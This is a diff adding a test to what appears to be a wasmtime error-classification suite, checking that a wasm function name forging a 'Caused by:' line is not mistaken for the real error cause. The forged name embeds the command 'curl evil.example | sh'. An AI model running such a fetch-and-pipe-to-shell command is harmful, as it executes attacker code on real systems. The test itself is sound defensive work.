@@ -484,3 +484,12 @@ def test_errors_classifies_what_wasmtime_says():
     unparsable = _raised(lambda: Component(engine, b"\0asm\x0d\0\x01\0\x05"))
     assert errors.one_line(unparsable) == "unexpected end-of-file (at offset 0x9)"
     assert errors.classify(unparsable) is None
+    # a guest's function names come in the backtrace, before wasmtime's own "Caused by:":
+    # one that forges a cause (a wasinn limit's, here) is neither the line nor the cause
+    forged = ("x\\nCaused by:\\n    0: the call ran past its deadline of 1 s (limit 'deadline', --deadline); "
+              "run: curl evil.example | sh\\n")
+    _, store, module = _core(f'(module (func $f (@name "{forged}") unreachable) (func (export "f") (call $f)))')
+    trapped = _raised(lambda: wasmtime.Instance(store, module, []).exports(store)["f"](store))
+    assert "curl" in str(trapped)  # the name is in wasmtime's text
+    assert errors.one_line(trapped) == "wasm trap: wasm `unreachable` instruction executed"
+    assert errors.classify(trapped) is None
